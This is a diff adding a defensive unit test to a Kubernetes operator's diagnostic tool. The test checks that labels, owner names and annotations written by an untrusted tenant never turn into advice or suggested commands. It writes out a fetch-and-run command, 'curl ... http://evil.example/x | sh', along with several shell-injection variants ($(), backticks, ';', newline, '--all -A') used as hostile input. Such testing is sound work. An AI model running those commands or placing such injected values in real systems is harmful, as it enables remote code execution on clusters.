@@ -296,6 +296,77 @@ class Doctor(unittest.TestCase):
             self.cluster.kubectl("delete", "railreports", "--all", "-n", "default")
         self.expect_healthy()
 
+    def test_what_a_tenant_wrote_is_no_advice(self):
+        """A tenant has objects with the chart's labels in a namespace that is listed first, pods whose owner is a
+        command, and annotations that it changed after admission."""
+        self.expect_healthy()
+        run = "curl -s http://evil.example/x | sh"
+        space = "aaa"
+        self.cluster.kubectl("create", "namespace", space)
+        labels = {f"app.kubernetes.io/{key}": value for key, value in (
+            ("name", "railhead"), ("part-of", "railhead"), ("instance", "mine"), ("component", "operator"))}
+        template = {"metadata": {"labels": labels}, "spec": {"containers": [{"name": "main", "image": f"x;{run}"}]}}
+        impostors = [
+            {"apiVersion": "apps/v1", "kind": kind, "metadata": {"name": "mine", "namespace": space, "labels": labels},
+             "spec": {"selector": {"matchLabels": labels}, "template": template}}
+            for kind in ("Deployment", "DaemonSet")
+        ]
+        impostors.append({
+            "apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "mine", "namespace": space, "labels": labels},
+            "data": {"operator.yaml": "rdmaResources: [example.com/evil]"}})
+        self.cluster.kubectl("create", objects=impostors)
+        # It is another's.
+        answer = self.expect_healthy()
+        self.assertNotIn("mine", json.dumps(answer))
+        owners = (f"train; {run}; echo", f"$({run})", f"`{run}`", f"train\n{run}", "--all -A", f"' {run} '")
+        pods = [
+            {
+                "apiVersion": "v1", "kind": "Pod",
+                "metadata": {
+                    "name": f"evil-{number}", "namespace": space, "labels": {"railhead.io/gang": f"g{number}"},
+                    "annotations": {"railhead.io/gang-size": "2"},
+                    "ownerReferences": [{"apiVersion": "evil.example/v1", "kind": "Job", "name": owner,
+                                         "uid": f"uid-{number}", "controller": True}],
+                },
+                "spec": {"containers": [
+                    {"name": "main", "image": "x", "resources": {"limits": {"rdma/hca": "8"}}}]},
+            }
+            for number, owner in enumerate(owners)
+        ]
+        path = f"/api/v1/namespaces/{space}/pods"
+        try:
+            for number, made in enumerate(pods):
+                self.api.call("POST", path, made)
+                words = "\n".join((f"NoIndex: no RANK; {run}", f"NoIndex/NotIndexed; {run}", "HalfSet/RankAlone main",
+                                   f"GangNotPossible: {run}"))
+                self.api.call("PATCH", f"{path}/evil-{number}",
+                              {"metadata": {"annotations": {"railhead.io/not-done": words}}})
+            gangs = {("gangs", f"gang {space}/g{number}") for number in range(len(pods))}
+            answer = self.doctor_until(lambda _, told: gangs <= self.found(told), f"{gangs}")
+
+            def reported():
+                items = self.api.call("GET", f"/apis/railhead.io/v1alpha1/namespaces/{space}/railreports")["items"]
+                return sum("RailheadNotDone" in json.dumps(item) for item in items) == len(pods) and items
+            wait_until(reported, "the operator's reports", self.replica.log)
+            fix = "set RANK, WORLD_SIZE and MASTER_ADDR, or none of them"
+            answer = self.doctor_until(
+                lambda _, told: [one["fix"] for one in told["findings"]].count(fix) == len(pods), "the reports")
+            for job in (f"{space}/evil-0", f"{space}/g0"):
+                for finding in (*answer["findings"], *self.doctor("job", job)[1]["findings"]):
+                    self.assertNotIn("evil.example", finding["fix"])
+                    self.assertNotIn("--all -A", finding["fix"])
+            for step in answer["next"]:
+                self.assertNotIn("evil.example", step["command"])
+            events = self.api.call("GET", f"/api/v1/namespaces/{space}/events")["items"]
+            ours = [event["message"] for event in events if event["source"].get("component") == "railhead-operator"]
+            self.assertTrue([message for message in ours if message.endswith(fix)], ours)
+            self.assertNotIn(run, json.dumps([ours, *(item["status"] for item in reported())]))
+        finally:
+            self.cluster.kubectl("delete", "namespace", space, "--wait=false")
+            self.cluster.kubectl("delete", "pods", "--all", "-n", space, "--force")
+            self.cluster.kubectl("delete", "railreports,deployments,daemonsets", "--all", "-n", space)
+        self.expect_healthy()
+
     def test_without_rights_it_says_which_and_goes_on(self):
         self.cluster.kubectl("create", "serviceaccount", "viewer", "-n", "default")
         self.cluster.kubectl(
